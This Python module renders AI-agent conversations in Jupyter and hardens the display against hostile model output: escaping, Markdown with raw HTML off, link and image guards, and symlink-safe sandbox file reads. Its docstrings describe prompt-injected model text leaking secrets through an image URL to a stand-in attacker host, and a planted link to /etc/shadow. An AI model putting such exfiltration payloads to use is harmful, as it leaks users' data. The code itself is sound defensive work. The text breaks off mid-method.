"""Conversations in Jupyter: a live display fed by stream events, and a static rendering of the messages.

In a notebook a run shows up as it happens. The assistant's text appears as Markdown. Each tool call is a
collapsible block, with its arguments and result, that fills in when the call finishes. Images from the code
interpreter appear inline, and failures are marked in red. Everything a tool returned is HTML-escaped: a tool
result is data, never markup, and model text is rendered by a Markdown renderer with raw HTML switched off.

Model text is hostile input (a prompt injection can make the model write anything), and a displayed image is a
request the browser makes at once: `![x](https://attacker/?q=<secret>)` would leak the conversation without a
click. So an image is shown only when it needs no request: a raster `data:` URI, or a file of this
conversation's sandbox, read here and inlined. Any other image becomes a link (or its text), links carry
`rel="noopener noreferrer"` and only http(s), mailto and relative targets, and the Markdown representations
escape every image and tag outside code. Sandbox files are read without following links, since the kernel
that wrote them can plant one.

The rest of what the model or a saved file supplies (tool names, roles, arguments, results, error text) is
never markup: in HTML it is escaped, in Markdown it is inline code (`_markdown_literal`) or a fenced block.
Every display of model text, the answer shown after approval buttons included, goes through `text_bundle`,
and every error through `error_bundle`.

A run that waits for a person's yes shows as paused, not as a failure: its calls say "waiting for your approval",
a box lists them with the line that answers them (and buttons, with `ipywidgets`), and the kernel shows the
`ApprovalRequired` that ends the cell without a traceback (`_notebook_approvals`). The line names the conversation
by the notebook's own variable, or is `resume({...})` from this module, which finds it by call id.

IPython is imported only when something is displayed, so plain Python never loads it or needs it.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import functools
import html
import json
import logging
import os
import re
import stat
import sys
import time
import urllib.parse
from collections import Counter
from collections.abc import Callable, Iterator, Mapping, MutableMapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path, PurePosixPath
from typing import TYPE_CHECKING, Any

from functionary_agent._openai_messages import code_of, message_text
from functionary_agent._run.calls import CANCELLED
from functionary_agent._run.interpreter import PYTHON, PythonTool
from functionary_agent._text import compact_json, shorten
from functionary_agent.errors import ApprovalRequired
from functionary_agent.events import (
    ApprovalRequested,
    Event,
    FinalAnswer,
    TextDelta,
    ToolCallArgumentsDelta,
    ToolCallStarted,
    ToolResult,
)

if TYPE_CHECKING:
    from markdown_it import MarkdownIt
    from markdown_it.renderer import RendererHTML
    from markdown_it.rules_core import StateCore
    from markdown_it.token import Token
    from markdown_it.utils import OptionsDict

    from functionary_agent._run.approvals import Decision, PendingCall
    from functionary_agent.conversation import Content, Conversation

logger = logging.getLogger(__name__)

Bundle = dict[str, str]
"""A display's representations by MIME type (`text/html`, `text/markdown`, `text/plain`)."""
Show = Callable[[Bundle], Callable[[Bundle], None]]
"""Displays a bundle and returns the function that replaces it in place."""
ImageResolver = Callable[[str], Path | None]
"""Maps an image path as the code interpreter names it (`/mnt/data/image-1.png`) to a readable host file."""

_IMAGE_LINE = re.compile(r"^\[image saved: (.+)\]$", re.MULTILINE)
_LINE_BREAK = re.compile(r"\r\n|\r|\n")  # the line endings of CommonMark
_NOT_A_NAME = re.compile(r"[^A-Za-z0-9_]")
_IMAGE_TYPES = {".png": "image/png", ".jpg": "image/jpeg", ".jpeg": "image/jpeg", ".gif": "image/gif",
                ".svg": "image/svg+xml"}
_MAX_IMAGE_BYTES = 16 * 1024 * 1024
# `data:` images model text may show. SVG is left out: it is a document that can carry script and links.
_MODEL_IMAGE_TYPES = frozenset({"image/png", "image/jpeg", "image/gif", "image/webp"})
# What an <img> of ours may show. SVG from the sandbox is included: in <img> a browser renders SVG in its secure
# static mode (no script runs, no external resource is fetched), and a data: URI has no origin to act for.
_SHOWN_IMAGE_TYPES = _MODEL_IMAGE_TYPES | {"image/svg+xml"}
_LINK_SCHEMES = frozenset({"http", "https", "mailto"})
_WEB_SCHEMES = frozenset({"http", "https"})
_REL = "noopener noreferrer"
_RESOLVE_KEY = "functionary_agent.resolve_image"  # where the markdown-it environment carries the resolver
_MAX_ESCAPE_TRIALS = 40  # parses spent finding the autolinks of one text; past that, their `<` is escaped too
_MAX_MARKDOWN_NESTING = 40  # markdown-it stops reading deeper; the check fences text that comes close
# Sandbox files are opened without following a symbolic link at any step of the path.
_NO_FOLLOW = getattr(os, "O_NOFOLLOW", 0)
_DIRECTORY_FLAGS = getattr(os, "O_DIRECTORY", 0) | _NO_FOLLOW | getattr(os, "O_PATH", os.O_RDONLY)
_FILE_FLAGS = os.O_RDONLY | _NO_FOLLOW | getattr(os, "O_NONBLOCK", 0)
_CAN_REFUSE_LINKS = bool(_NO_FOLLOW and hasattr(os, "O_DIRECTORY") and os.open in os.supports_dir_fd)
_RED = "#d32f2f"
# state -> (icon, label, colour)
_STATES = {
    "running": ("⏳", "running…", "#1976d2"),
    "ok": ("✓", "done", "#2e7d32"),
    "error": ("✗", "error", _RED),
    "repeated": ("↺", "same call as before: earlier result reused", "#757575"),
    "cancelled": ("⏹", "cancelled", "#ef6c00"),
    "unanswered": ("…", "no result", "#757575"),
    "waiting": ("⏸", "waiting for your approval", "#b26a00"),
    "paused": ("⏸", "not run yet: runs when the run resumes", "#757575"),
}
_ROLE_LABELS = {"system": "System", "user": "You", "assistant": "Assistant"}
_BOX = "margin:4px 0;padding:2px 8px;border-left:3px solid {colour};background:rgba(127,127,127,0.06)"
_PRE = "margin:2px 0 6px;padding:4px 6px;max-height:24em;overflow:auto;white-space:pre-wrap;word-break:break-word"


# -- where we are ------------------------------------------------------------------------------------------
def in_notebook() -> bool:
    """True inside a running Jupyter kernel (JupyterLab, Notebook, VS Code, Colab); False in plain Python and in
    terminal IPython, whose screen cannot show HTML. Never imports IPython: if it is not loaded, no kernel runs."""
    shell = _shell()
    return shell is not None and getattr(shell, "kernel", None) is not None


def _shell() -> Any:
    ipython = sys.modules.get("IPython")
    get_ipython = getattr(ipython, "get_ipython", None)
    return get_ipython() if get_ipython is not None else None


# -- one tool call, as both renderings see it -------------------------------------------------------------
@dataclass
class _Call:
    name: str
    arguments: str = ""
    content: str | None = None
    state: str = "running"
    duration: float | None = None
    images: list[tuple[str, bytes]] = field(default_factory=list)  # (mime type, data)


def _state_of(content: str) -> str:
    """A tool message keeps no error flag, so the static rendering recognises the shapes errors take: the
    conversation's `Error: ...` texts and the interpreter's tracebacks."""
    if content == CANCELLED:
        return "cancelled"
    if content.startswith("Error:") or "Traceback (most recent call last)" in content:
        return "error"
    return "ok"


def _call_preview(call: _Call) -> str:
    """`name(arguments)` on one line, as the terminal reporter writes it."""
    if call.name == PYTHON:
        first = next((line for line in code_of(call.arguments).splitlines() if line.strip()), "")
        return shorten(f"{call.name}: {first}", 100)
    return shorten(f"{call.name}({compact_json(call.arguments)})", 100)


def _pretty_arguments(arguments: str) -> str:
    try:
        return json.dumps(json.loads(arguments or "{}"), ensure_ascii=False, indent=2)
    except json.JSONDecodeError:
        return arguments


def _call_html(call: _Call) -> str:
    icon, label, colour = _STATES[call.state]
    status = label + (f" · {_seconds(call.duration)}" if call.duration else "")
    headline = ""
    if call.state == "error" and call.content:
        first = next((line for line in call.content.splitlines() if line.strip()), "")
        headline = f' <span style="color:{_RED}">{html.escape(shorten(first, 160))}</span>'
    summary = (
        f'<summary style="cursor:pointer">{icon} <code>{html.escape(_call_preview(call))}</code> '
        f'<span style="color:{colour};font-weight:600">{html.escape(status)}</span>{headline}</summary>'
    )
    if call.name == PYTHON:
        body = _section("code", code_of(call.arguments))
    else:
        body = _section("arguments", _pretty_arguments(call.arguments))
    if call.content is not None:
        body += _section("result", call.content)
    images = "".join(_image_html(mime, data) for mime, data in call.images)
    css_class = f"fa-tool fa-{call.state}"
    return f'<details class="{css_class}" style="{_BOX.format(colour=colour)}">{summary}{body}</details>{images}'


def _section(title: str, text: str) -> str:
    return f'<div style="opacity:0.7;font-size:90%">{title}</div><pre style="{_PRE}">{html.escape(text)}</pre>'


def _image_html(mime: str, data: bytes) -> str:
    encoded = base64.b64encode(data).decode("ascii")
    return f'<img class="fa-image" src="data:{mime};base64,{encoded}" style="max-width:100%;display:block"/>'


def _call_plain(call: _Call) -> str:
    """The text a frontend without HTML shows (a terminal console, a text export)."""
    icon, label, _ = _STATES[call.state]
    line = f"{icon} {_call_preview(call)}"
    if call.content is None:
        return f"{line}  [{label}]"
    marker = "[error] " if call.state == "error" else ""
    return f"{line}\n  -> {marker}{shorten(call.content, 2000)}"


def _call_markdown(call: _Call) -> str:
    """The call's name and arguments as inline code, its code and result as fenced blocks: each a literal that
    no Markdown it holds can leave (`_markdown_literal`, `_fence`)."""
    icon, label, _ = _STATES[call.state]
    status = label + (f" · {_seconds(call.duration)}" if call.duration else "")
    if call.name == PYTHON:
        parts = [f"{icon} **`python`** — {status}", _fence(code_of(call.arguments), "python")]
    else:
        arguments = _markdown_literal(compact_json(call.arguments))
        parts = [f"{icon} **{_markdown_literal(call.name)}** {arguments} — {status}"]
    if call.content is not None:
        parts.append(_fence(call.content, "text"))
    return "\n\n".join(parts)


def _seconds(duration: float) -> str:
    if duration < 1:
        return f"{max(duration * 1000, 1):.0f} ms"
    return f"{duration:.2f} s" if duration < 10 else f"{duration:.1f} s"


def _fence(text: str, language: str) -> str:
    """A fenced block no content can close early: the fence is longer than any run of backticks inside."""
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * max(3, longest + 1)
    return f"{fence}{language}\n{text}\n{fence}"


def _markdown_literal(text: str) -> str:
    """`text` as inline code: how every name, role and argument text (model- or file-supplied) enters the
    Markdown rendering. Inside a code span nothing is read as Markdown or HTML; the span's backticks outnumber
    any run inside, so it cannot be closed early, and line breaks become spaces, since a blank line would end
    the paragraph, and the span with it, before its closing backticks."""
    text = _LINE_BREAK.sub(" ", text) or " "
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    ticks = "`" * (longest + 1)
    pad = " " if text.startswith("`") or text.endswith("`") else ""
    return f"{ticks}{pad}{text}{pad}{ticks}"


# -- Markdown text -----------------------------------------------------------------------------------------
def _markdown_html(text: str, resolve: ImageResolver | None = None) -> str:
    """Model and user text as HTML: Markdown rendered with raw HTML off, so a `<script>` the model repeats from
    a tool result stays text, and with images and links guarded (see `_guard_links_and_images`). Without
    markdown-it (a dependency of rich) the text is shown escaped as is."""
    renderer = _markdown_renderer()
    if renderer is None:
        return f'<div style="white-space:pre-wrap">{html.escape(text)}</div>'
    return str(renderer.render(text, {_RESOLVE_KEY: resolve}))


@functools.lru_cache(maxsize=1)
def _markdown_renderer() -> MarkdownIt | None:
    try:
        from markdown_it import MarkdownIt
    except ImportError:
        return None
    renderer = MarkdownIt("commonmark", {"html": False}).enable(["table", "strikethrough"])
    renderer.core.ruler.push("guard_links_and_images", _guard_links_and_images)
    renderer.add_render_rule("image", _render_image)
    return renderer


def text_bundle(text: str, resolve: ImageResolver | None = None) -> Bundle:
    """Model or user text, displayed: the one way such text reaches the frontend (HTML from the guarded
    renderer, Markdown made inert, the text itself)."""
    return {"text/html": f'<div class="fa-text">{_markdown_html(text, resolve)}</div>',
            "text/markdown": _inert_markdown(text), "text/plain": text}


def error_bundle(text: str, css_class: str = "fa-error fa-failure") -> Bundle:
    """A red box with `text` as text: an error message can quote the model or a tool, so it is escaped, and
    there is no Markdown to render it as."""
    box = f'<div class="{css_class}" style="{_BOX.format(colour=_RED)};color:{_RED}">{html.escape(text)}</div>'
    return {"text/html": box, "text/plain": text}


def failure_text(error: BaseException) -> str:
    """`✗ ErrorType: message`, the line a failed run ends with."""
    return f"✗ {type(error).__name__}{f': {error}' if str(error) else ''}"


# -- links and images in model text -------------------------------------------------------------------------
def _guard_links_and_images(state: StateCore) -> None:
    """A markdown-it core rule, run after inline parsing: rewrites every inline token stream so that no image
    makes a request and no link leads to a script."""
    resolve = state.env.get(_RESOLVE_KEY)
    for token in state.tokens:
        if token.type == "inline" and token.children:
            token.children = _guarded_inline(token.children, resolve)


def _guarded_inline(children: list[Token], resolve: ImageResolver | None) -> list[Token]:
    """Links keep their `<a>` only for http(s), mailto and relative targets, and get `rel`; a link to anything
    else shows its text. Images go through `_guarded_image`."""
    guarded: list[Token] = []
    links_kept: list[bool] = []  # one entry per link being read: whether its <a> is kept
    for token in children:
        if token.type == "link_open":
            keep = _is_safe_link(str(token.attrGet("href") or ""))
            links_kept.append(keep)
            if keep:
                token.attrSet("rel", _REL)
                guarded.append(token)
        elif token.type == "link_close":
            if links_kept.pop() if links_kept else True:
                guarded.append(token)
        elif token.type == "image":
            guarded += _guarded_image(token, resolve, inside_link=any(links_kept))
        else:
            guarded.append(token)
    return guarded


def _guarded_image(token: Token, resolve: ImageResolver | None, *, inside_link: bool) -> list[Token]:
    """An image stays an image when it needs no request: a raster `data:` URI, or a sandbox file, inlined here.
    Any other image becomes a link to its address (its text alone inside a link, or for a non-web address)."""
    from markdown_it.token import Token

    src = str(token.attrGet("src") or "")
    if _data_uri_type(src) in _MODEL_IMAGE_TYPES:
        return [token]
    inlined = _sandbox_data_uri(src, resolve)
    if inlined is not None:
        token.attrSet("src", inlined)
        return [token]
    label = Token("text", "", 0, content=_plain_text(token.children or []) or src)
    if inside_link or not _is_web_url(src):
        return [label]
    link_open = Token("link_open", "a", 1)
    link_open.attrSet("href", src)
    link_open.attrSet("rel", _REL)
    return [link_open, label, Token("link_close", "a", -1)]


def _render_image(self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict,
                  env: MutableMapping[str, Any]) -> str:
    """The `<img>` of a guarded image. The source is checked again (a `data:` image of a shown type, nothing
    that makes a request), so an image the core rule did not see still cannot become a request."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = html.escape(_plain_text(token.children or []))
    if _data_uri_type(src) not in _SHOWN_IMAGE_TYPES:
        return alt
    title = token.attrGet("title")
    title_attribute = f' title="{html.escape(str(title))}"' if title else ""
    return f'<img src="{html.escape(src)}" alt="{alt}"{title_attribute} style="max-width:100%"/>'


def _plain_text(tokens: Sequence[Token]) -> str:
    """The text of an image description, without its markup (what `alt` holds)."""
    pieces = []
    for token in tokens:
        if token.type in ("text", "code_inline"):
            pieces.append(token.content)
        elif token.type in ("softbreak", "hardbreak"):
            pieces.append(" ")
        elif token.children:
            pieces.append(_plain_text(token.children))
    return "".join(pieces)


def _data_uri_type(url: str) -> str | None:
    """The media type of a `data:` URI, in lower case; None for any other URL."""
    if url[:5].lower() != "data:":
        return None
    return url[5:].split(",", 1)[0].split(";", 1)[0].strip().lower()


def _scheme(url: str) -> str | None:
    """The scheme a browser reads in `url`, in lower case (None for a relative URL). As the URL standard does,
    leading controls and spaces are dropped and tabs and newlines removed before it is read; a colon before any
    `/`, `?` or `#` makes a scheme (`java%09script:` is one, and not allowed)."""
    cleaned = "".join(ch for ch in url.lstrip("".join(map(chr, range(0x21)))) if ch not in "\t\n\r")
    head = re.split(r"[/?#]", cleaned, maxsplit=1)[0]
    return head.split(":", 1)[0].lower() if ":" in head else None


def _is_safe_link(href: str) -> bool:
    scheme = _scheme(href)
    return scheme is None or scheme in _LINK_SCHEMES


def _is_web_url(url: str) -> bool:
    return _scheme(url) in _WEB_SCHEMES or url.lstrip().startswith("//")


# -- Markdown for viewers that render it ----------------------------------------------------------------------
def _inert_markdown(text: str) -> str:
    """Model text as Markdown no viewer turns into a request. Jupyter and GitHub render Markdown with raw HTML
    on, so `![x](https://attacker/?q=...)` or `<img src=...>` would be fetched as soon as it shows: each `<` and
    image `[` outside code gets a backslash (it reads the same, as plain text), and text that markdown-it still
    reads as an image or HTML afterwards is shown as a code block. Other text is returned unchanged."""
    if "<" not in text and "![" not in text:
        return text  # no image and no HTML can start without one of these
    parser = _markdown_checker()
    if parser is None:
        return _fence(text, "text")
    text = text.replace("\r\n", "\n").replace("\r", "\n")  # lines as markdown-it counts them
    try:
        escaped = _escape_outside_code(parser, text)
        inert = _is_inert(parser.parse(escaped))
    except RecursionError:  # nesting deeper than Python's stack: nothing legitimate
        inert = False
    return escaped if inert else _fence(text, "text")


@functools.lru_cache(maxsize=1)
def _markdown_checker() -> MarkdownIt | None:
    """markdown-it reading text as a Markdown viewer does: raw HTML on, nesting followed deeper than usual."""
    try:
        from markdown_it import MarkdownIt
    except ImportError:
        return None
    options = {"maxNesting": _MAX_MARKDOWN_NESTING + 10}
    return MarkdownIt("commonmark", options).enable(["table", "strikethrough"])


@dataclass
class _Reading:
    """What escaping must keep (code as shown, the links) and what it must remove (images, raw HTML)."""

    code: list[str]
    links: Counter[str]
    fetching: int


def _reading(tokens: Sequence[Token]) -> _Reading:
    reading = _Reading([], Counter(), 0)
    for token in tokens:
        if token.type in ("code_inline", "code_block", "fence"):
            reading.code.append(token.content)
        elif token.type == "link_open":
            reading.links[str(token.attrGet("href"))] += 1
        elif token.type in ("image", "html_inline", "html_block"):
            reading.fetching += 1
        if token.children:
            inner = _reading(token.children)
            reading.code += inner.code
            reading.links += inner.links
            reading.fetching += inner.fetching
    return reading


def _escape_outside_code(parser: MarkdownIt, text: str) -> str:
    """`text` with a backslash before each `<` and image `[` outside code (inside, it would show). Fenced and
    indented blocks are skipped by their lines, code spans found by `_outside_code_spans`; an autolink's `<` is
    left as it is when a few trials find it (escaping it would lose the link)."""
    tokens = parser.parse(text)
    positions = _outside_code_spans(parser, text, _escapable_positions(text, tokens))
    before = _reading(tokens).links
    escaped = _with_backslashes(text, positions)
    tags = [position for position in positions if text[position] == "<"]
    if not before - _reading(parser.parse(escaped)).links or len(tags) > _MAX_ESCAPE_TRIALS:
        return escaped
    linking = {tag for tag in tags if before - _reading(parser.parse(_with_backslashes(text, [tag]))).links}
    return _with_backslashes(text, [position for position in positions if position not in linking])


def _outside_code_spans(parser: MarkdownIt, text: str, positions: list[int]) -> list[int]:
    """Those of `positions` that are not inside a code span once all are escaped. The token stream has no
    positions, so each is replaced by a private-use character of its own (as inert as an escaped one, and code
    spans end where they did) and one parse shows which turn up inside code."""
    first, last = 0xF0000, 0xFFFFD  # Supplementary Private Use Area-A
    if len(positions) > last - first or any(first <= ord(ch) <= last for ch in text):
        return positions  # cannot mark them apart: escape all (a code span may show a backslash)
    marked = list(text)
    for number, position in enumerate(positions):
        marked[position] = chr(first + number)
    code = "".join(_reading(parser.parse("".join(marked))).code)
    inside = {ord(ch) - first for ch in code if first <= ord(ch) <= last}
    return [position for number, position in enumerate(positions) if number not in inside]


def _escapable_positions(text: str, tokens: Sequence[Token]) -> list[int]:
    """Where a `<` or an image's `[` starts (not already escaped), outside fenced and indented code blocks."""
    code_lines = {line for token in tokens if token.type in ("fence", "code_block") and token.map
                  for line in range(*token.map)}
    positions: list[int] = []
    offset = 0
    for number, line in enumerate(text.split("\n")):
        if number not in code_lines:
            positions += [offset + i for i in range(len(line)) if _starts_syntax(line, i)]
        offset += len(line) + 1
    return positions


def _starts_syntax(line: str, index: int) -> bool:
    ch = line[index]
    if ch != "<" and not (ch == "[" and line[index - 1 : index] == "!"):
        return False
    backslashes = len(line[:index]) - len(line[:index].rstrip("\\"))
    return backslashes % 2 == 0


def _with_backslashes(text: str, positions: Sequence[int]) -> str:
    pieces, start = [], 0
    for position in sorted(positions):
        pieces += [text[start:position], "\\"]
        start = position
    return "".join(pieces) + text[start:]


def _is_inert(tokens: Sequence[Token]) -> bool:
    """No image and no raw HTML, and nesting well short of where markdown-it stops reading (past it, a viewer
    that reads deeper could find what markdown-it did not)."""
    return _reading(tokens).fetching == 0 and _deepest(tokens) < _MAX_MARKDOWN_NESTING


def _deepest(tokens: Sequence[Token]) -> int:
    return max((max(token.level, _deepest(token.children or [])) for token in tokens), default=0)


# -- images ------------------------------------------------------------------------------------------------
def image_resolver(chat: Conversation) -> ImageResolver:
    """Finds the host file behind an interpreter image path, inside the conversation's sandbox workdir only:
    result text can be written by the model's code, so a path that leads elsewhere is never read. The path
    returned names a regular file reached through real directories; the read itself (`_read_sandbox_file`)
    follows no link, since the kernel can swap one in at any moment."""
    roots = [(PurePosixPath(tool.sandbox.data_path), Path(tool.sandbox.workdir).resolve())
             for tool in chat.tools if isinstance(tool, PythonTool)]

    def resolve(visible: str) -> Path | None:
        for data_path, workdir in roots:
            found = _file_inside(workdir, data_path, visible)
            if found is not None:
                return found
        return None

    return resolve


def _file_inside(workdir: Path, data_path: PurePosixPath, visible: str) -> Path | None:
    """`visible` (a path under `data_path`, as the kernel sees it) as a host path under `workdir` (resolved),
    when it names a regular file there: no `..`, no link as the file, no link among its directories."""
    try:
        relative = PurePosixPath(visible).relative_to(data_path)
    except ValueError:
        return None
    if not relative.parts or ".." in relative.parts:
        return None
    candidate = workdir.joinpath(*relative.parts)
    try:
        regular = stat.S_ISREG(candidate.lstat().st_mode)
        return candidate if regular and candidate.parent.resolve() == candidate.parent else None
    except (OSError, ValueError):  # gone, unreadable, or a name no file can have
        return None


def _load_images(content: str, resolve: ImageResolver | None) -> list[tuple[str, bytes]]:
    """The images an interpreter result names in its `[image saved: ...]` lines, read through `resolve`."""
    if resolve is None:
        return []
    found = (_sandbox_image(visible, resolve) for visible in _IMAGE_LINE.findall(content))
    return [image for image in found if image is not None]


def _sandbox_image(visible: str, resolve: ImageResolver) -> tuple[str, bytes] | None:
    """(mime type, bytes) of the image file `resolve` finds for `visible`, when it is one and can be read."""
    path = resolve(visible)
    mime = _IMAGE_TYPES.get(path.suffix.lower()) if path is not None else None
    if path is None or mime is None:
        return None
    data = _read_sandbox_file(path, _MAX_IMAGE_BYTES)
    return (mime, data) if data is not None else None


def _sandbox_data_uri(src: str, resolve: ImageResolver | None) -> str | None:
    """The `data:` URI of the sandbox image an image in model text names by path (`/mnt/data/plot.png`)."""
    if resolve is None or _scheme(src) is not None or src.startswith("//"):
        return None
    image = _sandbox_image(urllib.parse.unquote(src), resolve)  # markdown-it percent-encodes the path
    if image is None:
        return None
    mime, data = image
    return f"data:{mime};base64,{base64.b64encode(data).decode('ascii')}"


def _read_sandbox_file(path: Path, limit: int) -> bytes | None:
    """The bytes of `path` when it is a regular file of at most `limit` bytes with one name, reached without
    following a link. The kernel that wrote it is hostile and can swap the file for a link (to /etc/shadow,
    say) between any check and the read, so nothing is checked by name: the file is opened once, without
    following links, then checked and read through that one descriptor."""
    try:
        descriptor = _open_without_links(path)
        with open(descriptor, "rb") as file:
            info = os.fstat(descriptor)
            if not stat.S_ISREG(info.st_mode) or info.st_nlink != 1 or info.st_size > limit:
                logger.debug("image %s not read: not a plain file of at most %d bytes", path, limit)
                return None
            data = file.read(limit + 1)  # the file can grow after fstat
    except (OSError, ValueError) as exc:
        logger.debug("image %s not read: %s", path, exc)
        return None
    return data if len(data) <= limit else None


def _open_without_links(path: Path) -> int:
    """A read-only descriptor for `path`, opened one directory at a time from `/`, each step relative to the
    last with O_NOFOLLOW: a symbolic link anywhere on the path, there before or swapped in meanwhile, makes the
    open fail (ELOOP, ENOTDIR) rather than lead elsewhere. O_NONBLOCK keeps a planted FIFO from hanging us."""
    if not _CAN_REFUSE_LINKS:
        raise OSError("this platform cannot open a file without following links")
    parts = Path(os.path.abspath(path)).parts  # made absolute without reading the file system
    directory = os.open(parts[0], _DIRECTORY_FLAGS)
    try:
        for name in parts[1:-1]:
            child = os.open(name, _DIRECTORY_FLAGS, dir_fd=directory)
            os.close(directory)
            directory = child
        return os.open(parts[-1], _FILE_FLAGS, dir_fd=directory)
    finally:
        os.close(directory)


# -- the static rendering ----------------------------------------------------------------------------------
def render_markdown(messages: Sequence[Mapping[str, Any]]) -> str:
    """The whole conversation as Markdown: who said what, each call with its arguments and result in fenced
    blocks (never raw HTML, so nothing a tool returned can become markup). Images stay as their paths, and
    images and tags in the messages' text are escaped: a Markdown viewer would fetch them as it shows them."""
    parts = []
    for kind, value in _transcript(messages, None):
        if isinstance(value, _Call):
            parts.append(_call_markdown(value))
        else:
            label = _ROLE_LABELS.get(kind) or _markdown_literal(kind)  # a saved file can name any role
            parts.append(f"**{label}**\n\n{_inert_markdown(value)}")
    return "\n\n".join(parts)


def render_html(messages: Sequence[Mapping[str, Any]], *, resolve_image: ImageResolver | None = None) -> str:
    """The whole conversation as one HTML block: text as Markdown, calls as collapsible blocks, the system
    prompt folded away. Interpreter images, and images the text names by sandbox path, are embedded when
    `resolve_image` finds their files; no other image is fetched (see `_guarded_image`)."""
    parts = []
    for kind, value in _transcript(messages, resolve_image):
        if isinstance(value, _Call):
            parts.append(_call_html(value))
        elif kind == "system":
            parts.append(f'<details class="fa-system" style="{_BOX.format(colour="#757575")}">'
                         f"<summary>System</summary>{_markdown_html(value, resolve_image)}</details>")
        else:
            label = html.escape(_ROLE_LABELS.get(kind, kind))
            css_class = f"fa-{kind}" if kind in _ROLE_LABELS else "fa-other-role"
            parts.append(f'<div class="{css_class}" style="margin:6px 0">'
                         f'<div style="font-weight:600;opacity:0.7">{label}</div>'
                         f"{_markdown_html(value, resolve_image)}</div>")
    return f'<div class="fa-conversation">{"".join(parts)}</div>'


def _transcript(
    messages: Sequence[Mapping[str, Any]], resolve: ImageResolver | None
) -> Iterator[tuple[str, Any]]:
    """(role, text) and ("call", _Call) in reading order, each call paired with its tool message. Messages set by
    hand can hold anything: ids that are not strings pair with nothing, calls that are not objects are left out."""
    answers = {_id_of(m.get("tool_call_id")): m for m in messages if m.get("role") == "tool"}
    answers.pop(None, None)
    shown: set[str] = set()
    for message in messages:
        role = str(message.get("role"))
        if role == "tool":
            if _id_of(message.get("tool_call_id")) not in shown:  # no call in the list has its id
                yield "call", _static_call(str(message.get("name") or "tool"), "", message, resolve)
            continue
        text = _shown_text(message.get("content"))
        if text.strip():
            yield role, text
        for tool_call in message.get("tool_calls") or ():
            function = tool_call.get("function") if isinstance(tool_call, Mapping) else None
            if not isinstance(function, Mapping):
                continue
            call_id = _id_of(tool_call.get("id"))
            if call_id is not None:
                shown.add(call_id)
            name, arguments = str(function.get("name", "")), function.get("arguments") or ""
            yield "call", _static_call(name, arguments, answers.get(call_id), resolve)


def _id_of(value: Any) -> str | None:
    return value if isinstance(value, str) and value else None


def _static_call(name: str, arguments: Any, answer: Mapping[str, Any] | None, resolve: ImageResolver | None) -> _Call:
    if not isinstance(arguments, str):
        arguments = json.dumps(arguments, ensure_ascii=False)
    if answer is None:
        return _Call(name, arguments, state="unanswered")
    content = _shown_text(answer.get("content"))
    images = _load_images(content, resolve) if name == PYTHON else []
    return _Call(name, arguments, content, _state_of(content), images=images)


def _shown_text(content: Any) -> str:
    """A message's content as the text to render: its text parts, and any other part as `[its type]`. The
    type comes from the file as well, so only its letters, digits and `_` are kept: `[image_url]` stays,
    `![p](https://...)` in its place cannot become Markdown."""
    if isinstance(content, list):
        content = [{**part, "type": _NOT_A_NAME.sub("", str(part.get("type", "text"))) or "part"}
                   if isinstance(part, Mapping) else part for part in content]
    return message_text(content, "\n", name_other_parts=True)


# -- the live display --------------------------------------------------------------------------------------
class _Output:
    """One display in the cell, replaced in place. Updates closer together than `interval` are merged, so a
    fast stream does not flood the frontend with a message per token; an update is given as the function that
    makes its bundle, called only when it is shown (rendering Markdown per token would be wasted)."""

    def __init__(self, show: Show, bundle: Bundle, clock: Callable[[], float], interval: float) -> None:
        self._update = show(bundle)
        self._clock = clock
        self._interval = interval
        self._shown_at = clock()
        self._pending: Callable[[], Bundle] | None = None

    def set(self, bundle: Callable[[], Bundle], *, now: bool = False) -> None:
        self._pending = bundle
        if now or self._clock() - self._shown_at >= self._interval:
            self.flush()

    def flush(self) -> None:
        if self._pending is not None:
            self._update(self._pending())
            self._pending = None
            self._shown_at = self._clock()


@dataclass
class _LiveCall:
    id: str
    call: _Call
    output: _Output

    def refresh(self, *, now: bool = False) -> None:
        self.output.set(functools.partial(_call_bundle, self.call), now=now)


def _call_bundle(call: _Call) -> Bundle:
    return {"text/html": _call_html(call), "text/plain": _call_plain(call)}


class LiveDisplay:
    """Shows one run in the notebook as `Conversation.stream` events arrive: `handle` each event, then `finish`
    (or `fail` with the exception that ended the run).

    Text goes into a Markdown display that grows as it streams; each call gets its own display, created when
    the model starts it and completed when its result arrives (results come in completion order and are matched
    by call id). `show` displays a bundle and returns its updater; the default uses IPython display handles.
    """

    def __init__(self, *, resolve_image: ImageResolver | None = None, show: Show | None = None,
                 min_interval: float = 0.1, clock: Callable[[], float] = time.monotonic,
                 ask: Callable[[list[PendingCall]], Any] | None = None,
                 resume_line: Callable[[Sequence[PendingCall]], str] | None = None) -> None:
        self._ask = ask  # shows the buttons for calls that wait for approval (None: the resume line only)
        self._resume_line = resume_line  # the line that answers them (None: the one for any variable name)
        self._show = show or _ipython_show
        self._resolve = resolve_image
        self._interval = min_interval
        self._clock = clock
        self._outputs: list[_Output] = []
        self._text: _Output | None = None
        self._text_value = ""
        self._turn_text = ""  # all text streamed in the current model turn
        self._calls: list[_LiveCall] = []  # the current turn's calls
        self._by_index: dict[int, _LiveCall] = {}
        self._results_seen = False
        self.answer = ""

    def handle(self, event: Event) -> None:
        if isinstance(event, ToolResult):
            self._on_result(event)
            return
        if self._results_seen:  # the first event after a turn's results opens the next turn
            self._results_seen = False
            self._calls, self._by_index, self._turn_text = [], {}, ""
            self._close_text()
        if isinstance(event, TextDelta):
            self._on_text(event.text)
        elif isinstance(event, ToolCallStarted):
            self._on_call_started(event)
        elif isinstance(event, ToolCallArgumentsDelta):
            live = self._by_index.get(event.index)
            if live is not None:
                live.call.arguments += event.delta
                live.refresh()
        elif isinstance(event, ApprovalRequested):
            self._on_approval(event.calls)
        elif isinstance(event, FinalAnswer):
            self.answer = event.content
            if not self._turn_text.strip() and event.content.strip():  # a model that did not stream its text
                self._on_text(event.content)
            self.finish()

    def finish(self) -> None:
        """Bring every display up to date (merged updates may be pending)."""
        for output in self._outputs:
            output.flush()

    def fail(self, error: BaseException) -> None:
        """Mark the run as stopped: calls still running are cancelled, and a red box says what ended it. A pause
        for approval is no failure: it gets the approval box (if the run's events did not show it already)."""
        if isinstance(error, ApprovalRequired):
            from functionary_agent.notebook.approvals import was_shown

            if not was_shown(error):
                self._show_pause(error)
            self.finish()
            return
        for live in self._calls:
